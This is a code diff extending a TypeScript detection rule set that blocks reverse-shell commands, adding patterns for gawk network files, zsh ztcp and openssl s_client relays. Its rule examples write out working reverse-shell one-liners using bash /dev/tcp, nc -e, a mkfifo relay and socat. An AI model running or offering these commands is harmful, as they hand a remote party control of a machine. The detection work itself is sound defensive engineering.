@@ -12,6 +12,21 @@ function isShellWithoutScript(s: ShellCommand): boolean {
   return SHELLS.has(s.name) && !s.argv.slice(1).some((a) => /^-[a-zA-Z]*c/.test(a));
 }
 
+/** gawk's network special files (`/inet/tcp/LPORT/HOST/RPORT`) used to run what arrives:
+ * a program that opens one and reads commands with `getline` or runs `system()`. */
+function awkNetShell(c: ShellCommand): boolean {
+  if (!/^(?:g|m|n)?awk$/.test(c.name)) return false;
+  const program = c.argv.slice(1).join(' ');
+  return /\/inet[46]?\/(?:tcp|udp)\//.test(program) && /\bgetline\b|\bsystem\s*\(/.test(program);
+}
+
+/** zsh `ztcp HOST PORT` (or `ztcp -l`) with a shell in the line whose fds are redirected to the
+ * connection (`zsh >&$REPLY 2>&$REPLY 0>&$REPLY`). */
+function ztcpShell(c: ShellCommand, commands: readonly ShellCommand[]): boolean {
+  if (c.name !== 'ztcp' || c.argv.length < 2) return false;
+  return commands.some((o) => SHELLS.has(o.name) && o.redirects.some((r) => /^\d*[<>]&$/.test(r.op) && /^\$\{?REPLY\}?$|^\d{2,}$|^[3-9]$/.test(r.target)));
+}
+
 function netRedirect(c: ShellCommand): boolean {
   return c.redirects.some((r) => DEV_NET.test(r.target));
 }
@@ -22,7 +37,7 @@ export const NETWORK_RULES: Rule[] = [
     name: 'Reverse shell over /dev/tcp',
     category: 'network/reverse-shell',
     action: 'block',
-    description: 'An interactive shell wired to /dev/tcp or /dev/udp.',
+    description: 'An interactive shell wired to /dev/tcp or /dev/udp, gawk /inet/tcp running what arrives, or zsh ztcp feeding a shell.',
     help: 'Hands a remote party a shell on this machine.',
     examples: {
       match: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', "sh -c 'exec 5<>/dev/tcp/x.example/443; cat <&5 | sh >&5 2>&5'"],
@@ -31,6 +46,7 @@ export const NETWORK_RULES: Rule[] = [
     match: {
       command: (c, line) => {
         if (SHELLS.has(c.name) && netRedirect(c)) return true;
+        if (awkNetShell(c) || ztcpShell(c, line.commands)) return true;
         // `exec N<>/dev/tcp/…` opens a socket both ways; a shell in the same line reading it runs remote input.
         if (c.name === 'exec' && c.redirects.some((r) => r.op.endsWith('<>') && DEV_NET.test(r.target))) {
           return line.commands.some((o) => SHELLS.has(o.name) && o !== c && (o.redirects.some((r) => /^\d*[<>]&$/.test(r.op) && /^\d+$/.test(r.target)) || o.pipeline !== null));
@@ -45,7 +61,7 @@ export const NETWORK_RULES: Rule[] = [
     name: 'Reverse shell with netcat or socat',
     category: 'network/reverse-shell',
     action: 'block',
-    description: 'nc/ncat/netcat -e/-c/--exec/--sh-exec; a pipeline joining a shell and nc (mkfifo relay); socat … exec:/system: a shell.',
+    description: 'nc/ncat/netcat -e/-c/--exec/--sh-exec; a pipeline joining a shell and nc, telnet or openssl s_client (relay); socat … exec:/system: a shell.',
     help: 'Hands a remote party a shell on this machine.',
     examples: {
       match: ['nc -e /bin/sh 10.0.0.1 4444', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', "socat tcp:x.example:4444 exec:'bash -li',pty,stderr"],
@@ -58,6 +74,8 @@ export const NETWORK_RULES: Rule[] = [
           if (args.some((a) => /^-[a-zA-Z]*[ec]$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a))) return true;
           return c.pipeline !== null && anyStage(c.pipeline, isShellWithoutScript);
         }
+        // openssl s_client … | sh | openssl s_client …: the TLS relay of the mkfifo reverse shell
+        if (c.name === 'openssl' && c.argv[1] === 's_client') return c.pipeline !== null && anyStage(c.pipeline, isShellWithoutScript);
         if (c.name === 'socat') return c.argv.slice(1).some((a) => /^(?:exec|system):.*\b(?:ba|z|k|da)?sh\b/i.test(a));
         return false;
       },
